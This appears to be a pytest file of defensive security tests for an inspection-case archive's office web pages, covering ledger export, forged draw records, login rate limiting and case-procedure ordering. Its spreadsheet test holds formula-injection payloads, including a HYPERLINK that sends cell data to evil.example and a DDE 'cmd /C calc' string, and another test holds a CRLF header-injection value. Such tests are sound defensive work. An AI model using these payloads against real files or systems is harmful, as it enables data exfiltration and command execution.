"""Attacks on the office's web view from what laptops push and from the office's own records."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from contextlib import contextmanager

import httpx

from archive.office.auth import add_user
from archive.office.ledger import LedgerRow, ledger_xlsx
from tests.archive.helpers import ArchiveProcess

PASSWORD = "reviewer-pass-1"


@contextmanager
def office_client(proc: ArchiveProcess, login: str, password: str = PASSWORD) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=proc.url, timeout=60) as c:
        r = c.post("/office/login", data={"login": login, "password": password})
        assert r.status_code == 303, r.text
        yield c


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf" value="([0-9a-f]{64})"', html)
    assert m is not None
    return m.group(1)


def test_ledger_xlsx_never_turns_pushed_text_into_a_formula() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    row = LedgerRow(case_id="c1", institution=evil, kind="+cmd|' /C calc'!A0", title="-2+3", visit="@SUM(1)",
                    registered="2026-01-01", team="=1+1", findings=1, amount_fen=100, decided_fen=0,
                    returned_fen=0, handling="=WEBSERVICE(\"http://x\")", stage="立案")
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(ledger_xlsx([row]))).active
    cells = [c for r in ws.iter_rows(min_row=2, max_row=2) for c in r]
    assert cells[0].value == evil
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.value) for c in cells if c.data_type == "f"]


def _draw_archive(tmp_path):  # type: ignore[no-untyped-def]
    from app.evidence.signing import SigningKey, b64
    from archive.roster import add_inspector, add_pull_item
    from archive.service import open_archive

    archive = open_archive(tmp_path / "a", create=True)
    with archive.db.write() as s:
        for n in range(3):
            add_inspector(s, id=f"insp-{n}", name=f"稽核员{n}", credential_no=f"CN{n}", organisation="某市医保局",
                          public_key=b64(SigningKey.generate().public_raw()))
        for n in range(3):
            add_pull_item(s, "institutions", f"inst-{n}", {"id": f"inst-{n}", "name": f"第{n}医院", "uscc": ""})
    return archive


def test_a_forged_draw_record_is_never_shown_as_consistent(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Someone with write access to the database adds a draw of their own making: inputs, inputs_sha256 and
    result agree with each other (it re-runs to itself), but the archive key did not sign it."""
    import json

    from app.evidence.canonical import canonical_bytes, canonical_sha256
    from app.evidence.signing import SigningKey, sign_object
    from archive.db import utcnow
    from archive.office.auth import Principal
    from archive.office.draw import CTX_DRAW, compute, draw, record_checks
    from archive.office.models import DrawRecord

    archive = _draw_archive(tmp_path)
    head = Principal("u-head", "head", "钱科长", "head", None, "x" * 64)
    try:
        with archive.db.write() as s:
            draw(archive, s, head, 1, "routine", seed="ab" * 32)
        with archive.db.read() as s:
            genuine = json.loads(s.execute(__import__("sqlalchemy").select(DrawRecord.record)).scalar_one())
        assert record_checks(genuine, archive.key.public_raw())
        # the forger leaves out the institution they want spared and re-computes everything else
        given = {**genuine["draw"]["inputs"]}
        given["institutions"] = [i for i in given["institutions"] if i["id"] != "inst-0"]
        forged = {**genuine["draw"], "inputs": given, "inputs_sha256": canonical_sha256(given),
                  "result": compute(genuine["draw"]["seed"], given["institutions"], given["inspectors"],
                                    given["conflicts"], 1)}
        for sig in (genuine["sig"], sign_object(SigningKey.generate(), "archive", CTX_DRAW, forged)):
            assert not record_checks({"draw": forged, "sig": sig}, archive.key.public_raw())
        # a damaged record is shown as not consistent, never a crash of the page
        for damaged in ({"draw": {**forged, "count": 0}, "sig": genuine["sig"]}, {"draw": {}, "sig": {}},
                        {"draw": {**genuine["draw"], "result": "x"}, "sig": genuine["sig"]}):
            assert not record_checks(damaged, archive.key.public_raw())
        with archive.db.write() as s:
            s.add(DrawRecord(at=utcnow(), user_id="u-head", record=canonical_bytes(
                {"draw": forged, "sig": genuine["sig"]}).decode()))
            s.add(DrawRecord(at=utcnow(), user_id="u-head", record="{not json"))
        add_user(archive.db, "head", "钱科长", "head", PASSWORD)
        add_user(archive.db, "legal", "赵审核", "legal", PASSWORD)
    finally:
        archive.db.dispose()
    proc = ArchiveProcess(tmp_path / "a").start()
    try:
        with office_client(proc, "head") as c:
            page = c.get("/office/draws")
            assert page.status_code == 200
            assert page.text.count('class="ok">一致') == 1 and page.text.count('class="bad">不一致') == 2
            # a refusal says what was refused (an OfficeError is a ValueError: it was reported as "not a number")
            refused = c.post("/office/draws", data={"csrf": csrf_of(page.text), "count": "99"})
            assert refused.status_code == 400 and "draw between 1 and 3" in refused.text
        with office_client(proc, "legal") as c:
            page = c.get("/office/draws")
            refused = c.post("/office/draws", data={"csrf": csrf_of(page.text), "count": "1"})
            assert refused.status_code == 403 and "only the head" in refused.text
    finally:
        proc.kill()


def test_quarterly_report_takes_any_pushed_kind_or_violation_code() -> None:
    """Kind and violation codes come from laptops (an unknown code is shown as given); matplotlib read "$…$" in
    a bar label as mathtext and failed the whole office's quarterly report on an unknown command."""
    from archive.office.ledger import quarterly_pdf

    stats = {"year": 2026, "quarter": 4, "due": "2026-12-25",
             "totals": {"cases": 1, "findings": 1, "amount_fen": 100, "decided_fen": 0, "returned_fen": 0},
             "by_kind": {"$\\undefinedcmd{$": 1}, "by_violation_fen": {"a$b$c$\\\\": 100}, "rows": []}
    assert quarterly_pdf(stats).startswith(b"%PDF")


def test_only_raster_images_are_served_inline() -> None:
    from archive.office.views import served_media_type

    assert served_media_type("image/jpeg") == "image/jpeg"
    for pushed in ("image/svg+xml", "image/svg+xml; charset=utf-8", "text/html", "image/png\r\nSet-Cookie: x=1",
                   "image/x-icon", ""):
        assert served_media_type(pushed) == "application/octet-stream"


def _closed_case(tmp_path):  # type: ignore[no-untyped-def]
    from archive.office.cases import CaseSummary
    from archive.service import open_archive

    archive = open_archive(tmp_path / "p", create=True)
    summary = CaseSummary(id="case-1", title="t", institution="某医院", kind="routine", status="closed",
                          source="laptop", created_at="2026-01-01", team=["insp-a", "insp-b"])
    return archive, summary


def test_a_step_already_followed_by_a_later_one_is_refused(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """告知 recorded again after the decision (a later date makes the decision look early, an earlier one makes
    the defence period look over) is refused, as is any step once a later one is done."""
    import datetime as dt

    import pytest

    from archive.office.auth import OfficeError, Principal
    from archive.office.procedure import take_step

    archive, case = _closed_case(tmp_path)
    head = Principal("u-head", "head", "钱科长", "head", None, "x" * 64)
    today = dt.date(2026, 6, 1)
    try:
        def step(stage: str, **form: str) -> None:
            with archive.db.write() as s:
                take_step(archive, s, head, case, stage, form, today=today)

        step("filed", on="2026-03-02")
        step("investigated", on="2026-03-10")
        step("notified", on="2026-03-11")
        step("decided", on="2026-04-20", decision="追回", amount="10")
        for stage, form in (("notified", {"on": "2026-05-01"}), ("filed", {"on": "2026-03-02"}),
                            ("investigated", {"on": "2026-04-21"})):
            with pytest.raises(OfficeError, match="already"):
                step(stage, **form)
        # a date before the step that must precede it is refused too
        with pytest.raises(OfficeError, match="earlier"):
            step("served", on="2026-04-01", method="直接送达", recipient="孙")
        step("served", on="2026-04-22", method="直接送达", recipient="孙")
    finally:
        archive.db.dispose()


def test_a_failed_legal_review_is_not_turned_into_a_pass_without_a_new_investigation(
        tmp_path) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt

    import pytest

    from archive.db import StoredObject
    from archive.office.auth import OfficeError, Principal
    from archive.office.procedure import take_step

    archive, case = _closed_case(tmp_path)
    head = Principal("u-head", "head", "钱科长", "head", None, "x" * 64)
    legal = Principal("u-legal", "legal", "赵审核", "legal", None, "y" * 64)
    today = dt.date(2026, 6, 1)
    try:
        with archive.db.write() as s:
            s.add(StoredObject(sha256="ab" * 32, case_id=case.id, kind="finding.flags_acknowledged",
                               body='{"covers": {"legal_review": true, "collective_decision": false}}',
                               **_stored_extra()))

        def step(who: Principal, stage: str, **form: str) -> None:
            with archive.db.write() as s:
                take_step(archive, s, who, case, stage, form, today=today)

        step(head, "filed", on="2026-03-02")
        step(head, "investigated", on="2026-03-10")
        step(legal, "legal_review", on="2026-03-12", result="fail", opinion="证据不足")
        with pytest.raises(OfficeError, match="did not pass"):
            step(legal, "legal_review", on="2026-03-13", result="pass", opinion="同意")
        step(head, "investigated", on="2026-03-20")  # a new investigation, then a new review
        step(legal, "legal_review", on="2026-03-21", result="pass", opinion="同意")
        step(head, "notified", on="2026-03-22")
    finally:
        archive.db.dispose()


def _stored_extra() -> dict[str, object]:
    import datetime as dt

    return {"device_id": "dev-1", "created_at": dt.datetime(2026, 3, 1)}


def test_login_attempts_are_limited_per_address(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Five wrong passwords lock one account, but nothing stopped one address trying five on every account
    (password spraying) or keeping hundreds of 64 MiB Argon2id hashes running."""
    from archive.office.views import LOGIN_BURST
    from archive.service import open_archive

    archive = open_archive(tmp_path / "a", create=True)
    try:
        for n in range(6):
            add_user(archive.db, f"user{n}", f"用户{n}", "head", PASSWORD)
    finally:
        archive.db.dispose()
    proc = ArchiveProcess(tmp_path / "a").start()
    try:
        with httpx.Client(base_url=proc.url, timeout=60) as c:
            codes = [c.post("/office/login", data={"login": f"user{n % 6}", "password": "spray-guess-1"}
                            ).status_code for n in range(int(LOGIN_BURST) + 5)]
        assert codes[0] == 401 and 429 in codes, codes
    finally:
        proc.kill()


def test_admin_verify_recomputes_the_office_records(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The office log's chain, each step's and each draw's archive signature: ``admin verify`` (what a restore
    ends with) checks them, as the office log's description promises an auditor."""
    import datetime as dt
    import json

    from sqlalchemy import select, update

    from archive.admin import verify_archive
    from archive.office.auth import Principal
    from archive.office.cases import CaseSummary
    from archive.office.draw import draw
    from archive.office.models import DrawRecord, OfficeLogEntry, OfficeStep
    from archive.office.procedure import take_step

    archive = _draw_archive(tmp_path)
    head = Principal("u-head", "head", "钱科长", "head", None, "x" * 64)
    try:
        add_user(archive.db, "head", "钱科长", "head", PASSWORD)
        with archive.db.write() as s:
            draw(archive, s, head, 1, "routine", seed="ab" * 32)
        case = CaseSummary(id="case-1", title="t", institution="某医院", kind="routine", status="closed",
                           source="laptop", created_at="2026-01-01", team=["insp-a", "insp-b"])
        with archive.db.write() as s:
            take_step(archive, s, head, case, "filed", {"on": "2026-03-02"}, today=dt.date(2026, 6, 1))
        assert verify_archive(archive)["ok"]
        with archive.db.write() as s:
            row = s.execute(select(OfficeStep)).scalar_one()
            forged = json.loads(row.statement)
            forged["statement"]["name"] = "别人"
            row.statement = json.dumps(forged)
            rec = s.execute(select(DrawRecord)).scalar_one()
            d = json.loads(rec.record)
            d["draw"]["name"] = "别人"
            rec.record = json.dumps(d)
            s.execute(update(OfficeLogEntry).where(OfficeLogEntry.seq == 0).values(action="user.removed"))
        failures = " ".join(verify_archive(archive)["failures"])
        assert "office log" in failures and "office step" in failures and "draw" in failures, failures
    finally:
        archive.db.dispose()


def test_amounts_are_exact_and_malformed_ones_refused() -> None:
    import pytest

    from archive.office.auth import OfficeError
    from archive.office.procedure import _fen

    assert _fen("1,280.16") == 128016 and _fen("1.005".rstrip("5")) == 100 and _fen("") == 0
    assert _fen("0.29") == 29 and _fen("12345678901.23") == 1234567890123 and _fen("１２．５") == 1250
    for bad in ("inf", "-inf", "1e400", "nan", "1.005", "-1", "0x10", "1_000", "1e3", "99999999999999"):
        with pytest.raises(OfficeError):
            _fen(bad)


def test_one_malformed_pushed_object_does_not_take_down_the_case_page_or_the_ledger(
        tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The archive checks signatures, not the shape of every field a page reads: a finding with a text amount or
    an evidence item whose streams are not objects (signed by an enrolled laptop) failed the case page, and the
    ledger and quarterly report of the whole office."""
    import datetime as dt
    import json

    from archive.db import Case, StoredObject
    from archive.office import cases, ledger
    from archive.service import open_archive

    archive = open_archive(tmp_path / "m", create=True)
    try:
        with archive.db.write() as s:
            s.add(Case(id="case-m", source="device", created_at=dt.datetime(2026, 11, 2)))
            bodies = {
                "case.created": {"title": "t", "institution": "某医院", "inspectors": ["i1", "i2"], "kind": "x",
                                 "planned_date": 7},
                "finding.added": {"description": "d", "amount_fen": "abc", "violation": ["x"]},
                "evidence.captured": {"body": {"item": "e1", "streams": ["x", {"size": "big"}],
                                               "provider": "孙", "obtained_at": 5}, "signatures": 3},
                "provider.signed": {"body": {"signer": "孙", "witness": "x"}},
                "documents.outcome_details": {"outcome": "x"},
                "finding.flags_acknowledged": {"covers": {"total_fen": "lots"}},
            }
            for n, (kind, body) in enumerate(bodies.items()):
                s.add(StoredObject(sha256=f"{n:064x}", case_id="case-m", kind=kind, body=json.dumps(body),
                                   device_id="dev-1", created_at=dt.datetime(2026, 11, 2)))
        with archive.db.read() as s:
            summary = cases.summaries(s)[0]
            page = cases.case_page(archive, s, summary)
            assert page["findings"][0]["amount"] == "0.00"
            rows = ledger.ledger(s)
            assert rows[0].amount_fen == 0
            assert ledger.statistics(s, 2026, 4)["totals"]["cases"] == 1
            from archive.office.procedure import state

            state(archive, s, summary)
    finally:
        archive.db.dispose()


def test_legal_review_refused_to_an_unlinked_account_bearing_a_team_members_name(
        tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A 法制审核员 account need not name an inspector id; an inspector who is also the office's legal reviewer,
    added without ``--inspector``, reviewed their own case."""
    import datetime as dt

    import pytest

    from app.evidence.signing import SigningKey, b64
    from archive.office.auth import OfficeError, Principal
    from archive.office.procedure import take_step
    from archive.roster import add_inspector

    archive, case = _closed_case(tmp_path)
    head = Principal("u-head", "head", "钱科长", "head", None, "x" * 64)
    same = Principal("u-legal", "legal", "李四", "legal", None, "y" * 64)
    other = Principal("u-legal2", "legal", "赵审核", "legal", None, "z" * 64)
    today = dt.date(2026, 6, 1)
    try:
        with archive.db.write() as s:
            for iid, name in (("insp-a", "张三"), ("insp-b", "李四")):
                add_inspector(s, id=iid, name=name, credential_no=iid, organisation="某市医保局",
                              public_key=b64(SigningKey.generate().public_raw()))
        for stage in ("filed", "investigated"):
            with archive.db.write() as s:
                take_step(archive, s, head, case, stage, {"on": "2026-03-02"}, today=today)
        form = {"on": "2026-03-03", "result": "pass", "opinion": "同意"}
        with pytest.raises(OfficeError, match="case team"), archive.db.write() as s:
            take_step(archive, s, same, case, "legal_review", form, today=today)
        with archive.db.write() as s:
            take_step(archive, s, other, case, "legal_review", form, today=today)
    finally:
        archive.db.dispose()
